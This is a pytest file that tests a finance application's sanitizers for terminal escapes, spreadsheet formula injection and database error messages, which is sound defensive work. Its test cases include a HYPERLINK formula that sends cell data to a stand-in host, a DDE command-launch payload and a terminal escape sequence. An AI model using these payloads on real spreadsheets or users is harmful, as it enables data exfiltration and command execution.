import pytest

from finconsole.core.kernel.text import printable, spreadsheet_safe


def test_printable_escapes_terminal_controls():
    assert printable("Anna\x1b]0;pwned\x07") == "Anna\\x1b]0;pwned\\x07"
    assert printable(None) == ""


@pytest.mark.parametrize(
    "cell",
    ['=HYPERLINK("http://evil.example/?"&A2)', "@SUM(A1:A9)", "+cmd|' /C calc'!A0", "-2+3",
     "\t=1+1", "\r=1"],
)  # fmt: skip
def test_formula_starts_become_text(cell):
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+358401234567", "-12.50", "-5", "Anna", "", "a=b", "00730"])
def test_numbers_and_plain_text_stay(cell):
    assert spreadsheet_safe(cell) == cell


def test_non_text_stays():
    assert spreadsheet_safe(3) == 3 and spreadsheet_safe(None) is None


@pytest.mark.parametrize(
    "driver, told",
    [
        ("database is locked", "busy"),
        ("deadlock detected\nDETAIL: Process 1 waits", "busy"),
        ("database or disk is full", "disk is full"),
        ("disk I/O error", "disk I/O error"),
        ("attempt to write a readonly database", "read-only"),
        ("database disk image is malformed", "damaged"),
        ("server closed the connection unexpectedly", "did not answer"),
        ('invalid input syntax for type integer: "Anna Virtanen"', "refused"),
    ],
)
def test_database_errors_are_named_never_quoted(driver, told):
    from finconsole.core.kernel.errors import database_error_text

    text = database_error_text(Exception(driver))
    assert told in text and "Anna" not in text and "\n" not in text
